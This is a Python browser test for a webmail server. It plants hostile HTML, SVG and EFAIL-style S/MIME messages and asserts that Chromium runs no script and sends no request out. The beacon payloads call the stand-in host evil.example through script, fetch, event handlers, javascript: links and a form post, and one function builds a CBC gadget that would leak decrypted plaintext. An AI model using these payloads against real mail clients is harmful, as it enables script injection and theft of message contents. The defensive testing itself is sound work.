"""Hostile mail and hostile pages in a real headless Chromium (tests/browser/hostile.mjs).

Every message of the hostile corpus (tests/fixtures/hostile/*.eml) plus a few "beacon"
messages made here with Python's `email` package is delivered, opened in Chromium and
asserted harmless from the page: no script ran (the beacons try to change the title,
post a message to the page, log, alert and navigate the top window, and nothing of it
may happen), no request left for any host but the server, the body frame is sandboxed,
attachments only download. Then hostile pages (served by the test for other origins)
try cross-site posts to /login, /unlock and /logout, framing, and session fixation.

Messages go into the Maildir with Python's own `mailbox` module (an outside delivery
agent), so that the uid of each is known; one is encrypted with gpg to the user's key."""

import glob
import os
import subprocess
import sys
import tempfile
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import wmk_browser  # noqa: E402
from wmk_browser import OutsideGpg, message  # noqa: E402
from wmk_e2e import SOURCE_DIR, Instance  # noqa: E402

PASSWORD = "correct horse battery staple"
KEY_PASS = "tulips in the rain"
USER = "victim"
CORPUS = os.path.join(SOURCE_DIR, "tests", "fixtures", "hostile")


def beacon_html(name):
    """HTML whose every active part, should it run or load, leaves a trace the test sees:
    a changed title, a message posted to the page, a console line, a dialog, or a
    request to evil.example (which the test aborts and counts)."""
    mark = "PWNED-" + name
    evil = "https://evil.example/" + name
    return """<!doctype html><html><head>
<title>{mark}</title>
<meta http-equiv="refresh" content="0;url={evil}/refresh">
<base href="{evil}/base/">
<link rel="stylesheet" href="{evil}/link.css">
<style>@import url({evil}/import.css); body {{ background: url({evil}/bg.png) }}</style>
<script>
document.title = '{mark} title';
try {{ top.document.title = '{mark} top'; }} catch (e) {{}}
parent.postMessage('{mark} script', '*');
console.log('{mark} script');
alert('{mark} script');
fetch('{evil}/fetch');
top.location = '{evil}/top';
</script>
</head><body onload="parent.postMessage('{mark} onload', '*')">
<p>Beacon {name}: if you can read this, the page is still harmless.</p>
<img src="{evil}/pixel.gif" alt="pixel">
<img src="x" onerror="parent.postMessage('{mark} onerror', '*'); console.log('{mark} onerror')">
<svg onload="parent.postMessage('{mark} svg', '*')"><script>console.log('{mark} svg')</script></svg>
<iframe src="{evil}/iframe"></iframe>
<iframe srcdoc="&lt;script&gt;parent.postMessage('{mark} srcdoc', '*')&lt;/script&gt;"></iframe>
<object data="{evil}/object.swf"></object>
<video poster="{evil}/poster.png" src="{evil}/video.mp4" autoplay></video>
<a id="jslink" href="javascript:parent.postMessage('{mark} link', '*');console.log('{mark} link')">a javascript: link</a>
<a id="datalink" href="data:text/html,&lt;script&gt;console.log('{mark} data')&lt;/script&gt;">a data: link</a>
<form id="evilform" action="{evil}/form" method="post"><input name="q" value="secret">
<button id="formgo" type="submit">Go</button></form>
<p style="background-image: url({evil}/inline-style.png)">styled</p>
</body></html>
""".format(mark=mark, evil=evil, name=name)


def html_mail(name, to):
    m = message("Beacon " + name, "unused", sender="Mallory <mallory@evil.example>", to=to)
    m.set_content(beacon_html(name), subtype="html")
    return m


def svg_mail(to):
    m = message("Beacon svg attachment", "A picture is attached.\n",
                sender="Mallory <mallory@evil.example>", to=to)
    svg = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="parent.postMessage(\'PWNED-svg\','
           b' \'*\')"><script>fetch("https://evil.example/svg-attachment")</script>'
           b'<image href="https://evil.example/svg-image.png"/></svg>\n')
    m.add_attachment(svg, maintype="image", subtype="svg+xml", filename="picture.svg")
    html = beacon_html("html-attachment").encode()
    m.add_attachment(html, maintype="text", subtype="html", filename="page.html",
                     disposition="inline")
    return m


def cbc_gadget_mail(cert_pem, to, workdir):
    """S/MIME EnvelopedData made by `openssl cms -encrypt -aes-256-cbc`, then the EFAIL
    CBC gadget (tests/fixtures/wrap_mime.py cbc-gadget): the IV changed so that the first
    plaintext block, known to anyone, reads `<img src=http://` — an image that would
    leak the rest of the plaintext to the host `xt` if it were ever parsed as HTML."""
    cert = os.path.join(workdir, "cert.pem")
    with open(cert, "w") as f:
        f.write(cert_pem)
    entity = os.path.join(workdir, "entity")
    with open(entity, "wb") as f:
        f.write(b"Content-Type: text/html; charset=utf-8\r\n\r\n"
                b"<p>CBC-GADGET-SECRET 7391 <a href=\"https://evil.example/link\">link</a></p>\r\n")
    der = os.path.join(workdir, "ct.der")
    subprocess.run(["openssl", "cms", "-encrypt", "-binary", "-aes-256-cbc", "-outform", "DER",
                    "-in", entity, "-out", der, cert], check=True, capture_output=True)
    gadget = subprocess.run(["python3", os.path.join(SOURCE_DIR, "tests", "fixtures",
                                                     "wrap_mime.py"),
                             "cbc-gadget", der, "Content-Type: te", "<img src=http://"],
                            check=True, capture_output=True).stdout
    with open(der, "wb") as f:
        f.write(gadget)
    smime = subprocess.run(["openssl", "cms", "-cmsout", "-inform", "DER", "-in", der,
                            "-outform", "SMIME"], check=True, capture_output=True).stdout
    head = ("From: Mallory <mallory@evil.example>\nTo: %s\nSubject: Beacon CBC gadget\n" % to)
    return head.encode() + smime


def alternative_mail(to):
    """multipart/alternative: the text part is shown; the HTML one must not leak."""
    m = message("Beacon alternative", "The plain version.\n",
                sender="Mallory <mallory@evil.example>", to=to)
    m.add_alternative(beacon_html("alternative"), subtype="html")
    return m


@unittest.skipIf(wmk_browser.skip_reason(), wmk_browser.skip_reason())
class BrowserHostile(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.wmk = Instance()
        cls.gpg = OutsideGpg()
        address = "%s@example.org" % USER
        cls.wmk.add_user(USER, PASSWORD, address)
        key = cls.wmk.cli("key", "generate", USER, "--type", "openpgp", "--passphrase-stdin",
                          input=KEY_PASS + "\n", json_output=True)
        cls.gpg.import_public(cls.wmk.cli("key", "export", key["fingerprint"]).stdout)

        corpus = []
        for path in sorted(glob.glob(os.path.join(CORPUS, "*.eml"))):
            with open(path, "rb") as f:
                uid = cls.wmk.deliver_with_python(USER, f.read())
            corpus.append({"name": os.path.basename(path), "uid": uid})
        beacons = []
        for name in ("html-only", "second"):
            beacons.append({"name": name, "framed": True, "uid": cls.wmk.deliver_with_python(
                USER, html_mail(name, address))})
        beacons.append({"name": "svg-and-html-attachments",
                        "uid": cls.wmk.deliver_with_python(USER, svg_mail(address))})
        beacons.append({"name": "alternative",
                        "uid": cls.wmk.deliver_with_python(USER, alternative_mail(address))})
        # Hostile HTML inside encryption: the decrypted view must frame it the same way.
        inner = html_mail("encrypted", address)
        for h in ("From", "To", "Subject", "Date", "Message-ID"):
            del inner[h]
        encrypted = cls.gpg.pgp_mime(key["fingerprint"], inner, "Beacon encrypted",
                                     sender="Mallory <mallory@evil.example>", to=address)
        encrypted_uid = cls.wmk.deliver_with_python(USER, encrypted)
        plain_uid = cls.wmk.deliver_with_python(
            USER, message("Harmless", "Nothing to see.\n", to=address))
        # S/MIME without integrity protection, altered on the way (EFAIL CBC gadget).
        smime = cls.wmk.cli("key", "generate", USER, "--type", "smime", "--passphrase-stdin",
                            input=KEY_PASS + "\n", json_output=True)
        with tempfile.TemporaryDirectory(prefix="wmk-cbc-") as workdir:
            cbc = cbc_gadget_mail(cls.wmk.cli("key", "export", smime["fingerprint"]).stdout,
                                  address, workdir)
        cbc_uid = cls.wmk.deliver_with_python(USER, cbc)
        cls.scenario = {
            "user": USER,
            "password": PASSWORD,
            "key_passphrase": KEY_PASS,
            "corpus": corpus,
            "beacons": beacons,
            "encrypted": {"name": "encrypted", "uid": encrypted_uid},
            "cbc_gadget": {"name": "cbc-gadget", "uid": cbc_uid},
            "plain_uid": plain_uid,
        }
        cls.wmk.start()

    @classmethod
    def tearDownClass(cls):
        cls.gpg.close()
        cls.wmk.close()

    def test_hostile_mail_and_pages_in_chromium(self):
        self.assertGreaterEqual(len(self.scenario["corpus"]), 20, "the hostile corpus is there")
        r = wmk_browser.run_suite("hostile", self.wmk, self.scenario)
        sys.stdout.write(r.stdout)
        if r.returncode != 0:
            sys.stdout.write(self.wmk.logs()[-20000:])
        self.assertEqual(r.returncode, 0, "the browser suite failed (its output is above)")


if __name__ == "__main__":
    unittest.main()
